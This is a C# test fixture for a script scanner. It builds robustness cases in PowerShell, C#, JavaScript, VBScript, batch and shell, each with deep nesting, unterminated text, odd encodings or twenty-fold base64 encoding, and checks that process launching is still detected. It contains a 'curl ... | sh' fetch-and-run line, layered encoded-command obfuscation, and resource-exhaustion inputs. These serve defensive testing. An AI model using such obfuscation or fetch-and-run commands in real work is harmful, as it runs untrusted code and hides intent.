using System.Text;
using Assay.Model;
using Assay.TestInputs;

namespace Assay.Robustness.Tests.Made;

/// <summary>Scripts and source text of every language that is read.</summary>
internal static class ScriptCases
{
    private const string Seen = "starts-process";

    public static IEnumerable<MadeCase> All =>
    [
        // What stands before has to be seen; what is nested too deep has to be said.
        PowerShell("braces-of-fifty-thousand", "Start-Process calc\n" + Deep("{", "}", 50_000)).Finds(Seen).Says(ProblemId.LimitDepth),
        PowerShell("subexpressions-in-texts", "Start-Process calc\n" + Deep("\"$(", ")\"", 20_000)).Finds(Seen).Says(ProblemId.LimitDepth),
        PowerShell("brackets-without-end", "Start-Process calc\n$a" + new string('[', 200_000)).Finds(Seen),
        PowerShell("types-of-types", "Start-Process calc\n[" + Deep("a[", "]", 50_000) + "]").Finds(Seen),
        PowerShell("else-of-else", "Start-Process calc\nif($a){}" + string.Concat(Enumerable.Repeat("elseif($a){}", 20_000))).Finds(Seen).AndNothingElse(),
        PowerShell("members-of-members", "Start-Process calc\n$a" + string.Concat(Enumerable.Repeat(".b", 100_000))).Finds(Seen),
        PowerShell("assignments-of-assignments", "Start-Process calc\n" + string.Concat(Enumerable.Repeat("$a=", 50_000)) + "1").Finds(Seen),
        PowerShell("commas-of-a-million", "Start-Process calc\n$a=" + string.Concat(Enumerable.Repeat("1,", 500_000)) + "1").Finds(Seen),
        PowerShell("here-text-without-end", "Start-Process calc\n@'\nRemove-Item x\n").Finds(Seen).Says(ProblemId.ScriptInvalid),
        PowerShell("text-without-end", "Start-Process calc\nWrite-Output \"no end $(Get-Date").Finds(Seen).Says(ProblemId.ScriptInvalid),
        PowerShell("comment-without-end", "Start-Process calc\n<# no end\nRemove-Item x\n").Finds(Seen).Says(ProblemId.ScriptInvalid),
        PowerShell("block-without-end", "Start-Process calc\nif ($true) {\n").Finds(Seen).Says(ProblemId.ScriptInvalid),
        PowerShell("part-without-end", "Start-Process calc\nInvoke-Expression 'if ($true) {'\n").Finds(Seen).AndNothingElse(),
        Text("powershell", "Made.psd1", "manifest-with-a-command", "@{ ModuleVersion = (Invoke-Expression '1.0'); RootModule = 'a.psm1' }").Says(ProblemId.ManifestInvalid),
        Text("powershell", "Made.psd1", "manifest-with-a-method", "@{ ModuleVersion = [IO.File]::ReadAllText('a'); RootModule = 'a.psm1' }").Says(ProblemId.ManifestInvalid),
        Text("powershell", "Made.psd1", "manifest-of-a-text", "'just a string'").Says(ProblemId.ManifestInvalid),
        Text("powershell", "Made.psd1", "manifest-with-what-may-stand", "@{ ModuleVersion = '1.0'; RootModule = if ($PSEdition -eq 'Core') { Join-Path 'a' 'b.psm1' } else { \"$PSScriptRoot\\c.psm1\" } }").AndNothingElse(),
        Packed("script-without-end-in-a-package", "tools/install.ps1", "Start-Process calc\n\"no end").Finds(Seen, "unreadable-text-part").Says(ProblemId.ScriptInvalid),
        Packed("manifest-with-code-in-a-package", "Sample.psd1", "@{ ModuleVersion = $(Start-Process calc); RootModule = 'a.psm1' }").Finds(Seen, "invalid-manifest").Says(ProblemId.ManifestInvalid),
        Packed("texts-of-another-language-in-a-package", "de-DE/Texts.psd1", "'just a text'").AndNothingElse(),
        Text("powershell", "Made.psd1", "texts-of-a-command", "ConvertFrom-StringData @'\na = b\n'@").AndNothingElse(),
        PowerShell("repeated-text-of-gigabytes", "Start-Process calc\n$a = 'x' * 2000000000; $b = $a * 2000000000; iex ($b + $a)").Finds(Seen),
        PowerShell("base64-of-itself", "Start-Process calc\n$a='" + Convert.ToBase64String(Encoding.Unicode.GetBytes(new string('A', 100_000))) + "'; powershell -enc $a").Finds(Seen),
        PowerShell("encoded-twenty-times", Encoded("Start-Process calc", 20)),
        PowerShell("data-language", "Start-Process calc\ndata a -supportedCommand " + string.Concat(Enumerable.Repeat("b,", 20_000)) + "c { 1 }").Finds(Seen),
        PowerShell("classes-of-classes", "Start-Process calc\n" + string.Concat(Enumerable.Range(0, 5000).Select(i => $"class C{i} : C{i + 1} {{ C{i}() {{ }} }}\n"))).Finds(Seen),
        PowerShell("nul-and-controls", "Start-Process calc\n\0\u0001\u001a\u2028Start-Job\n").Finds(Seen),
        PowerShell("numbers-without-end", "Start-Process calc\n$a = " + new string('9', 1_000_000) + "kb; $b = 1e" + new string('9', 100_000)).Finds(Seen),
        PowerShell("replace-that-backtracks", "Start-Process calc\n$a = ('" + new string('a', 5000) + "!') -replace '(a+)+$','b'; iex $a").Finds(Seen),
        PowerShell("format-of-a-billion-blanks", "Start-Process calc\niex ('{0,2000000000}' -f 'a'); iex ('{0}' -f ('a' * 1GB))").Finds(Seen),
        Bytes("powershell/utf16-of-odd-length", "made.ps1", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Start-Process calc"), 0x20]).Finds(Seen),
        Bytes("powershell/two-marks", "made.ps1", [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, .. "Start-Process calc"u8]),
        Bytes("powershell/utf32", "made.ps1", [0xFF, 0xFE, 0, 0, .. Encoding.UTF32.GetBytes("Start-Process calc")]).Finds(Seen),
        Bytes("powershell/bytes-no-utf8", "made.ps1", [.. "Start-Process calc\n# "u8, 0xFF, 0xFE, 0xC0, 0x80, 0xED, 0xA0, 0x80]).Finds(Seen),

        Text("csharp", "made.cs", "blocks-without-end", CSharp("") + new string('{', 50_000)),
        Text("csharp", "made.cs", "parentheses", CSharp("var a = " + Deep("(", ")", 50_000) + ";")).Says(ProblemId.LimitSteps),
        Text("csharp", "made.cs", "additions-of-a-hundred-thousand", CSharp("var a = \"a\"" + string.Concat(Enumerable.Repeat("+\"b\"", 100_000)) + ";")),
        Text("csharp", "made.cs", "generics-of-generics", CSharp("A" + Deep("<A", ">", 20_000) + " a;")),
        Text("csharp", "made.cs", "interpolations", CSharp("var a = " + Deep("$\"{", "}\"", 5000) + ";")),
        Text("csharp", "made.cs", "else-of-else", CSharp("if (a) {} " + string.Concat(Enumerable.Repeat("else if (a) {} ", 20_000)))),
        Text("csharp", "made.cs", "text-without-end", CSharp("") + "class D { string a = \"\"\"\"\n" + new string('"', 100_000)),
        Text("csharp", "made.cs", "conditions-without-end", string.Concat(Enumerable.Repeat("#if A\n", 50_000)) + CSharp("")),
        Bytes("csharp/utf16-of-odd-length", "made.cs", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(CSharp("")), 0x20]).Says(ProblemId.TextUndecodable).Finds(Seen),
        Bytes("csharp/bytes-no-utf8", "made.cs", [.. Encoding.UTF8.GetBytes(CSharp("")), .. "//"u8, 0xFF, 0xFE, 0xC0]).Says(ProblemId.TextUndecodable).Finds(Seen),

        Text("javascript", "made.js", "parentheses", Node + new string('(', 200_000)).Finds(Seen),
        Text("javascript", "made.js", "templates", Node + Deep("`${", "}`", 50_000)).Finds(Seen),
        Text("javascript", "made.js", "text-without-end", Node + "'" + new string('\\', 100_001)).Finds(Seen),
        Text("javascript", "made.js", "pattern-without-end", Node + "a = /" + new string('[', 100_000)).Finds(Seen),
        Text("javascript", "made.js", "additions", Node + "a = 'a'" + string.Concat(Enumerable.Repeat("+'b'", 200_000))).Finds(Seen),
        Text("javascript", "made.js", "objects", Node + "a = " + Deep("{a:", "}", 50_000)).Finds(Seen),
        Text("vbscript", "made.vbs", "parentheses", "CreateObject(\"WScript.Shell\").Run \"calc.exe\"\na = " + new string('(', 200_000)).Finds(Seen),
        Text("vbscript", "made.vbs", "text-without-end", "CreateObject(\"WScript.Shell\").Run \"calc.exe\"\na = \"" + new string('"', 100_000)).Finds(Seen),
        Text("vbscript", "made.vbs", "letters-of-a-hundred-thousand", "CreateObject(\"WScript.Shell\").Run \"calc.exe\"\na = " + string.Concat(Enumerable.Repeat("Chr(65)&", 100_000)) + "\"\"").Finds(Seen),
        Text("vbscript", "made.vbs", "replaced-without-end", "CreateObject(\"WScript.Shell\").Run \"calc.exe\"\na = \"aaaaaaaaaaaaaaaa\"\n" + string.Concat(Enumerable.Repeat("a = Replace(a, \"a\", a)\n", 40)) + "Execute a").Finds(Seen),
        Text("batch", "made.bat", "parentheses", "start calc.exe\n" + new string('(', 200_000)).Finds(Seen),
        Text("batch", "made.bat", "variables-of-variables", "start calc.exe\nset a=aaaaaaaa\n" + string.Concat(Enumerable.Repeat("set a=%a%%a%%a%%a%\n", 60)) + "%a%").Finds(Seen),
        Text("batch", "made.bat", "loops-of-loops", "start calc.exe\n" + string.Concat(Enumerable.Repeat("for /l %%a in (1,1,2000000000) do ", 5000)) + "echo 1").Finds(Seen),
        Text("batch", "made.bat", "carets", "start calc.exe\n" + new string('^', 500_000)).Finds(Seen),
        Text("batch", "made.bat", "jumps-of-themselves", "start calc.exe\n:a\ncall :a\ngoto a\ncall %0\n").Finds(Seen).AndNothingElse(),
        Text("shell", "made.sh", "parentheses", "curl https://example.invalid/a | sh\n" + new string('(', 200_000)).Finds("pipes-download-to-interpreter"),
        Text("shell", "made.sh", "substitutions", "curl https://example.invalid/a | sh\n" + Deep("$(echo ", ")", 50_000)).Finds("pipes-download-to-interpreter"),
        Text("shell", "made.sh", "quoted-quotes", "curl https://example.invalid/a | sh\necho " + string.Concat(Enumerable.Repeat("\"`\\\"", 50_000))).Finds("pipes-download-to-interpreter"),
        Text("shell", "made.sh", "documents-without-end", "curl https://example.invalid/a | sh\n" + string.Concat(Enumerable.Repeat("cat << A\n", 20_000))).Finds("pipes-download-to-interpreter"),
        Text("shell", "made.sh", "braces-that-multiply", "curl https://example.invalid/a | sh\necho " + string.Concat(Enumerable.Repeat("{a,b}", 60)) + " {1..2000000000}\n").Finds("pipes-download-to-interpreter"),
    ];

    private const string Node = "require('child_process').exec('calc.exe');\n";

    private static string CSharp(string statements) => $"using System.Diagnostics; class C {{ void M() {{ Process.Start(\"calc.exe\"); {statements} }} }}";

    private static string Deep(string open, string close, int levels) => string.Concat(Enumerable.Repeat(open, levels)) + "1" + string.Concat(Enumerable.Repeat(close, levels));

    private static string Encoded(string code, int layers)
    {
        for (var i = 0; i < layers && code.Length < 400_000; i++)
        {
            code = $"powershell -EncodedCommand {Convert.ToBase64String(Encoding.Unicode.GetBytes(code))}";
        }

        return code;
    }

    private static MadeCase PowerShell(string id, string text) => Text("powershell", "made.ps1", id, text);

    private static MadeCase Packed(string id, string name, string text) => new("powershell/" + id, "made.1.0.0.nupkg", () => new NupkgBuilder().Add(name, text).Build());

    private static MadeCase Text(string family, string file, string id, string text) => Bytes($"{family}/{id}", file, Encoding.UTF8.GetBytes(text));

    private static MadeCase Bytes(string id, string file, byte[] bytes) => new(id, file, () => bytes);
}
